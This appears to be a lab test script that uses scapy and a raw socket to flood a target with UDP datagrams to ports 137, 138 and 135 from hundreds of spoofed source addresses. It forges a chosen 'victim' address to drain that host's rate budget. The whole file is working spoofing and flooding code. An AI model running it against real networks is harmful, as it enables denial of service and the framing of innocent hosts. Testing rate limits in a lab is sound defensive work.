#!/usr/bin/python3
"""A flood from hundreds of spoofed source addresses (issue #10 item 9), built by scapy.

scapy builds --pool IP/UDP datagrams of random garbage to UDP 137, 138 and 135 of TARGET, their
sources spread over PREFIX.FIRST-PREFIX.LAST of the lab's own network (addresses the inbound
policy admits); every --victim-every'th one carries the source --victim and goes to UDP 137, to
empty that real host's budget if budgets were shared. A raw socket (IP_HDRINCL) sends them for
--seconds. Traffic goes only to the address given (a lab host).
Prints "sent N datagrams from S sources (V as VICTIM) in T s".
"""
import argparse
import os
import random
import socket
import time

from scapy.layers.inet import IP, UDP
from scapy.packet import Raw


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("target")
    parser.add_argument("--prefix", default="10.99.0")
    parser.add_argument("--first", type=int, default=20)
    parser.add_argument("--last", type=int, default=250)
    parser.add_argument("--victim", required=True)
    parser.add_argument("--victim-every", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=8.0)
    parser.add_argument("--pool", type=int, default=3000)
    args = parser.parse_args()

    sources = [f"{args.prefix}.{n}" for n in range(args.first, args.last + 1)]
    ports = (137, 138, 135)
    pool = []
    victims = 0
    for i in range(args.pool):
        if i % args.victim_every == 0:
            source, port = args.victim, 137
            victims += 1
        else:
            source, port = random.choice(sources), ports[i % 3]
        packet = IP(src=source, dst=args.target) / UDP(sport=random.randint(1024, 65535), dport=port) / Raw(os.urandom(20 + i % 100))
        pool.append(bytes(packet))

    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    destination = (args.target, 0)
    start = time.monotonic()
    sent = 0
    while time.monotonic() - start < args.seconds:
        for datagram in pool:
            try:
                sock.sendto(datagram, destination)
            except OSError:
                pass
        sent += len(pool)
    print(f"sent {sent} datagrams from {len(sources) + 1} sources ({sent * victims // len(pool)} as {args.victim}) in {time.monotonic() - start:.1f} s", flush=True)


if __name__ == "__main__":
    main()
